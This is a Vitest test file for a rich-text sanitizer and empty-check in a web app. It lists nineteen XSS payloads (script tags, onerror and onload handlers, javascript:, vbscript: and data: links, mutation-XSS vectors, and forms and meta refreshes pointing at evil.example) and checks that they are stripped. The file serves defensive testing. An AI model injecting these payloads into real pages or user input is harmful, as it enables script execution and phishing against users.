import { describe, expect, it } from 'vitest';
import { richTextIsEmpty, sanitizeRichText } from '@/ui/rich-text/sanitize-rich-text';

/** Hostile payloads a customer or a compromised account could put in a ticket or comment. */
const HOSTILE: ReadonlyArray<[string, string]> = [
  ['script tag', '<p>oi</p><script>window.__pwned = 1</script>'],
  ['img onerror', '<img src=x onerror="window.__pwned = 1">'],
  ['event handler on allowed tag', '<p onclick="window.__pwned = 1" onmouseover="x()">clique</p>'],
  ['javascript: link', '<a href="javascript:window.__pwned=1">link</a>'],
  ['encoded javascript: link', '<a href="jav&#x09;ascript:alert(1)">link</a>'],
  ['data: link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>'],
  ['vbscript: link', '<a href="vbscript:msgbox(1)">link</a>'],
  ['svg onload', '<svg onload="window.__pwned=1"><circle r="4"/></svg>'],
  ['svg use href', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>"/></svg>'],
  ['style tag', '<style>body{background:url("javascript:alert(1)")}</style><p>x</p>'],
  ['style attribute', '<p style="background:url(javascript:alert(1));position:fixed;inset:0">x</p>'],
  ['iframe', '<iframe src="https://evil.example"></iframe>'],
  ['form action', '<form action="https://evil.example"><input name="senha"><button>ok</button></form>'],
  ['math mutation', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['object', '<object data="javascript:alert(1)"></object>'],
  ['base tag', '<base href="https://evil.example/">'],
  ['link formaction', '<button formaction="javascript:alert(1)">x</button>'],
];

describe('sanitizeRichText', () => {
  it.each(HOSTILE)('removes every executable part of a %s payload', (_name, payload) => {
    const html = sanitizeRichText(payload);
    expect(html).not.toMatch(
      /<(script|img|svg|style|iframe|form|input|math|meta|object|base|button|noscript)/i,
    );
    expect(html).not.toMatch(/\son\w+=/i);
    expect(html).not.toMatch(/javascript:|vbscript:|data:/i);
    expect(html).not.toMatch(/style=/i);
  });

  it('keeps the formatting of the editor: paragraphs, emphasis, lists, quotes and code', () => {
    const html =
      '<p><strong>Nota</strong> <em>fiscal</em> <u>55</u> <s>cancelada</s></p><ol><li data-list="bullet">um</li></ol><blockquote>cit</blockquote><pre>xml</pre>';
    expect(sanitizeRichText(html)).toBe(html);
  });

  it('keeps only the list marker among data attributes, and only its two values', () => {
    expect(
      sanitizeRichText(
        '<ol><li data-list="ordered" data-x="1">a</li><li data-list="javascript:x">b</li></ol>',
      ),
    ).toBe('<ol><li data-list="ordered">a</li><li>b</li></ol>');
  });

  it('keeps http, https and mailto links and opens them in a new tab without access to the app', () => {
    const html = sanitizeRichText(
      '<a href="https://www.cte.fazenda.gov.br/portal/">portal</a> <a href="mailto:suporte@retaguarda.dev">e-mail</a> <a href="http://a.example">a</a>',
    );
    const doc = new DOMParser().parseFromString(html, 'text/html');
    const links = [...doc.querySelectorAll('a')];
    expect(links.map((link) => link.getAttribute('href'))).toEqual([
      'https://www.cte.fazenda.gov.br/portal/',
      'mailto:suporte@retaguarda.dev',
      'http://a.example',
    ]);
    for (const link of links) {
      expect(link.getAttribute('target')).toBe('_blank');
      expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    }
  });

  it('keeps the text of a link whose address is refused, without the address', () => {
    const html = sanitizeRichText('<a href="javascript:alert(1)" target="_top">clique aqui</a>');
    expect(html).toBe('<a>clique aqui</a>');
  });

  it('drops relative and protocol-less addresses (only http, https and mailto are links)', () => {
    expect(sanitizeRichText('<a href="/dashboard">x</a>')).toBe('<a>x</a>');
    expect(sanitizeRichText('<a href="ftp://host/file">x</a>')).toBe('<a>x</a>');
  });
});

describe('richTextIsEmpty', () => {
  it.each([
    '',
    '<p><br></p>',
    '<p>   </p>',
    '<p>&nbsp;</p>',
    '<p><strong></strong></p>',
    '<img src=x onerror=alert(1)>',
  ])('treats %j as empty', (html) => {
    expect(richTextIsEmpty(html)).toBe(true);
  });

  it('sees text inside markup', () => {
    expect(richTextIsEmpty('<p><strong>ok</strong></p>')).toBe(false);
    expect(richTextIsEmpty(null)).toBe(true);
  });
});
